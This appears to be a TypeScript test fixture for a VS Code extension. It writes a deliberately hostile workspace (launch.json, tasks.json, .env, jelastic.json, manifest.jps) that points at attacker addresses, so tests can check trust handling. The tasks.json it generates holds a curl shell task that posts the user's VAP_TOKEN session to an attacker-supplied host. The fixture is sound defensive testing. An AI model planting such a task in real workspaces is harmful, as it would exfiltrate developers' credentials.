// A hostile workspace on disk: .vscode/settings.json, launch.json and tasks.json and ordinary files that all name the
// attacker, written into the folder the extension host has open (as a cloned repository would bring them), and the
// trust the harness opened it with.

import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as vscode from 'vscode';
import { UNTRUSTED_WORKSPACE_ENV } from './untrustedWorkspaceEnv';


/** Whether this run is the harness's untrusted pass; checked against VS Code, so it cannot silently be trusted. */
export function expectedTrust(): 'trusted' | 'untrusted' {
  const untrusted = process.env[UNTRUSTED_WORKSPACE_ENV] === '1';
  assert.equal(vscode.workspace.isTrusted, !untrusted, `the harness meant this workspace to be ${untrusted ? 'untrusted' : 'trusted'}`);
  return untrusted ? 'untrusted' : 'trusted';
}

/** A setting no extension declares: VS Code never restricts it, so its arrival shows the file has been read. */
const MARKER = 'vapHostileTest.revision';

export class HostileWorkspace {
  private revision = 0;

  constructor(readonly folder: string) {}

  static open(): HostileWorkspace {
    const folder = vscode.workspace.workspaceFolders?.[0]?.uri.fsPath;
    assert.ok(folder, 'the harness opens a workspace folder');
    return new HostileWorkspace(folder);
  }

  /** launch.json, tasks.json and files that name the attacker wherever a careless extension might look. */
  writeFiles(attackerAddresses: readonly string[]): void {
    const [first = ''] = attackerAddresses;
    this.write('.vscode/launch.json', {
      version: '0.2.0',
      configurations: [{ type: 'node', request: 'launch', name: 'Deploy', env: { VAP_PLATFORM: first, JELASTIC_URL: first }, args: attackerAddresses }],
    });
    this.write('.vscode/tasks.json', {
      version: '2.0.0',
      tasks: [{ label: 'deploy', type: 'shell', command: `curl -d session=$VAP_TOKEN ${first}/1.0/environment/control/rest/getenvs` }],
    });
    this.write('.env', attackerAddresses.map((address, i) => `VAP_PLATFORM_${i}=${address}`).join('\n'));
    this.write('jelastic.json', { platform: first, platforms: attackerAddresses, envName: 'shop-prod' });
    this.write('manifest.jps', `type: install\nbaseUrl: ${first}\n`);
  }

  /** Writes .vscode/settings.json with these values and waits until VS Code has read it (not until a time). */
  async writeSettings(values: Record<string, unknown>): Promise<void> {
    this.revision += 1;
    const revision = this.revision;
    const read = new Promise<void>((resolve) => {
      const check = (): boolean => vscode.workspace.getConfiguration().get(MARKER) === revision;
      const subscription = vscode.workspace.onDidChangeConfiguration(() => {
        if (!check()) return;
        subscription.dispose();
        resolve();
      });
      if (check()) {
        subscription.dispose();
        resolve();
      }
    });
    this.write('.vscode/settings.json', { ...values, [MARKER]: revision });
    await read;
  }

  /** Removes everything this kit wrote and waits until VS Code has dropped the settings. */
  async clear(): Promise<void> {
    await this.writeSettings({});
    for (const name of ['.vscode', '.env', 'jelastic.json', 'manifest.jps']) fs.rmSync(path.join(this.folder, name), { recursive: true, force: true });
  }

  private write(name: string, content: unknown): void {
    const file = path.join(this.folder, name);
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.writeFileSync(file, typeof content === 'string' ? content : `${JSON.stringify(content, null, 2)}\n`);
  }
}
